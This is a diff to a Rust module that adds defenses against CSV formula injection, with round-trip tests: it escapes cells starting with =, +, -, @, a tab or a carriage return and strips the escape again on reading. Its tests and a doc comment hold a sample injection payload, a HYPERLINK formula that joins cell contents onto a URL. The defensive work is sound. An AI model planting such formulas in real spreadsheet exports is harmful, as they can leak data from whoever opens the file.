@@ -1,12 +1,23 @@
 //! One cell's text on its way into or out of a file: the rules every reader and writer of the
 //! crate shares, so that what ansinh writes it reads back as it was.
 //!
+//! - **Formula injection (CSV).** A spreadsheet opening a CSV file runs a cell that begins with
+//!   `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK(…)` typed into an
+//!   address would become a link in every officer's export). Every CSV cell ansinh writes
+//!   goes through [`csv_cell`], which puts an apostrophe before such a cell, as OWASP
+//!   recommends; the readers take it off again ([`unquoted`]). XLSX cells are written as
+//!   strings (never as formulas), which no spreadsheet evaluates.
 //! - **Excel's cell limit.** An XLSX cell holds at most 32,767 characters (UTF-16 code units);
 //!   the readers refuse a longer cell of either format.
+
+use std::borrow::Cow;
 
 /// The most characters one cell may hold: Excel's limit, counted as Excel counts them (UTF-16
 /// code units, so a character outside the Basic Multilingual Plane counts twice).
 pub const EXCEL_MAX_CELL: usize = 32_767;
+
+/// The characters that make a spreadsheet read a cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// A text's length as Excel counts it.
 pub fn excel_len(s: &str) -> usize {
@@ -17,4 +28,88 @@ pub fn excel_len(s: &str) -> usize {
 pub fn longer_than(s: &str, max: usize) -> bool {
     // UTF-8 never takes fewer bytes than UTF-16 takes code units, so short texts need no count.
     s.len() > max && excel_len(s) > max
+}
+
+/// Whether a cell would start a formula once the apostrophes before it are taken off.
+fn formula_like(s: &str) -> bool {
+    s.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// A cell as a CSV file carries it; every CSV cell the crate writes, header or not, goes
+/// through here. A cell that would start a formula gets an apostrophe in front, and so does one
+/// that already starts with apostrophes before such a character (`'=x`), so that [`unquoted`]
+/// gives every text back exactly. In a column the layout declares `numeric`, a number is
+/// written as it is, negative ones included (`-5` runs nothing); anything else there is text.
+pub fn csv_cell(s: &str, numeric: bool) -> Cow<'_, str> {
+    if !formula_like(s) || numeric && s.trim().parse::<f64>().is_ok_and(f64::is_finite) {
+        Cow::Borrowed(s)
+    } else {
+        Cow::Owned(format!("'{s}"))
+    }
+}
+
+/// A cell as read from a file, without the apostrophe that [`csv_cell`] puts before a formula
+/// character. Files of both formats lose it, since a CSV file opened in Excel and saved as
+/// .xlsx keeps the apostrophe in the text.
+pub fn unquoted(mut s: String) -> String {
+    if s.starts_with('\'') && formula_like(&s) {
+        s.remove(0);
+    }
+    s
+}
+
+/// A text cell of an XLSX file that ansinh reads back (exports, templates, rejected rows): only
+/// a text starting with an apostrophe before a formula character needs one more, or
+/// [`unquoted`] would take its own off on reading.
+pub fn xlsx_reimportable(s: &str) -> Cow<'_, str> {
+    if s.starts_with('\'') {
+        csv_cell(s, false)
+    } else {
+        Cow::Borrowed(s)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_get_an_apostrophe_and_lose_it_on_reading() {
+        for s in [
+            "=HYPERLINK(\"http://x\"&A1,\"Xem\")",
+            "+84905123456",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "'=1",
+            "''-x",
+        ] {
+            let written = csv_cell(s, false);
+            assert!(written.starts_with('\''), "{s:?}");
+            assert_eq!(unquoted(written.into_owned()), s);
+        }
+        for s in ["12 Lê Lợi", "", "'quoted'", "a=b", " =1"] {
+            assert_eq!(csv_cell(s, false), s);
+            assert_eq!(unquoted(s.to_string()), s);
+        }
+    }
+
+    #[test]
+    fn number_columns_keep_their_numbers() {
+        assert_eq!(csv_cell("-5", true), "-5");
+        assert_eq!(csv_cell("12", true), "12");
+        assert_eq!(csv_cell("-5", false), "'-5");
+        assert_eq!(csv_cell("-2+3", true), "'-2+3");
+        assert_eq!(csv_cell("-inf", true), "'-inf");
+        assert_eq!(csv_cell("=1", true), "'=1");
+    }
+
+    #[test]
+    fn reimportable_xlsx_text_keeps_its_own_apostrophe() {
+        assert_eq!(xlsx_reimportable("=1"), "=1");
+        assert_eq!(xlsx_reimportable("'=1"), "''=1");
+        assert_eq!(unquoted(xlsx_reimportable("'=1").into_owned()), "'=1");
+        assert_eq!(xlsx_reimportable("'abc"), "'abc");
+    }
 }
